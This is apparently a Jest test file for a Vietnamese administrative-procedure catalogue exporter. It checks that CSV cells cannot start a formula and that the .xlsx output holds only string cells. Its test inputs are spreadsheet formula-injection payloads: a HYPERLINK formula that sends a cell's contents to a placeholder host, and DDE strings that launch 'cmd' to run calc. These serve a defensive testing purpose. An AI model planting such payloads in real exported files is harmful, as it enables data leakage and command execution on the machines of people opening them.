import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { exportCatalogue, type AcceptedList } from '../../activities/catalogue-export';
import { readZipDirectory, readZipEntry } from '../../list-files/zip';

// The consolidated catalogue carries text agencies typed: in the CSV no cell may start a formula,
// and in the .xlsx every such text is a string cell (no formula cell), kept word for word.

const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1,"Mở")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\uff1d1+1',
];

let dir: string;
beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dondoc-catalogue-export-'));
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

// One agency lists every hostile text as a procedure, paper, Lĩnh vực, Căn cứ and Ghi chú.
const lists: AcceptedList[] = [
  {
    agencyCode: 'doc-hai',
    list: {
      procedures: HOSTILE.map((text, i) => ({
        code: i === 0 ? '=1+1' : `1.00000${i}`,
        name: text,
        field: text,
        documents: [{ name: text, kind: 'thanh_phan_ho_so' as const, basis: text, note: text }],
      })),
    },
  },
];
const names = new Map([['doc-hai', '=cmd|"/C calc"!A0']]);
const heading = { campaignId: 'c', directive: '751/UBND-TTHC', at: '2024-03-08T09:00:00+07:00' };
// Names are read with runs of white space made one space, as the catalogue merges them.
const asName = (text: string) => text.replace(/\s+/g, ' ');

test('no CSV cell starts a formula; the text is kept after an apostrophe', async () => {
  const { csv } = await exportCatalogue(dir, heading, lists, names);
  const records: string[][] = parse(fs.readFileSync(csv, 'utf8'), { bom: true });
  expect(records[0]).toEqual([
    'STT',
    'Mã cơ quan',
    'Cơ quan đề xuất',
    'Mã TTHC',
    'Tên thủ tục hành chính',
    'Lĩnh vực',
    'Cơ quan/cấp thực hiện',
    'Tên giấy tờ, tài liệu cần số hóa',
    'Loại',
    'Căn cứ',
    'Ghi chú',
  ]);
  const body = records.slice(1);
  expect(body).toHaveLength(HOSTILE.length);
  for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  const guarded = (text: string) => (/^[=+\-@\t\uff1d]/.test(text) ? `'${text}` : text);
  // Sorted by procedure code within the agency: '=1+1' sorts before '1.00000…'.
  expect(body.map((r) => r[7])).toEqual(HOSTILE.map((text) => guarded(asName(text))));
  expect(body.map((r) => r[9])).toEqual(HOSTILE.map(guarded));
  expect(body[0]![3]).toBe("'=1+1");
  expect(body[0]![2]).toBe('\'=cmd|"/C calc"!A0');
});

test('the .xlsx holds the same text as string cells, with no formula anywhere', async () => {
  const { xlsx } = await exportCatalogue(dir, heading, lists, names);
  const buffer = fs.readFileSync(xlsx);
  for (const entry of readZipDirectory(buffer).filter((e) => /^xl\/worksheets\/.*\.xml$/.test(e.name)))
    expect(readZipEntry(buffer, entry, 10_000_000).toString('utf8')).not.toMatch(/<f[\s>]/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet('Phụ lục')!;
  // Rows 1–7 are the heading, 8 the table's header, 9 the agency's group heading.
  expect(String(sheet.getRow(9).getCell(1).value)).toBe('1. =cmd|"/C calc"!A0 (6 giấy tờ)');
  HOSTILE.forEach((text, i) => {
    const row = sheet.getRow(10 + i);
    expect([row.getCell(3).type, row.getCell(3).value]).toEqual([ExcelJS.ValueType.String, asName(text)]);
    expect([row.getCell(6).type, row.getCell(6).value]).toEqual([ExcelJS.ValueType.String, asName(text)]);
    expect([row.getCell(8).type, row.getCell(8).value]).toEqual([ExcelJS.ValueType.String, text]);
  });
  workbook.eachSheet((s) =>
    s.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))),
  );
});
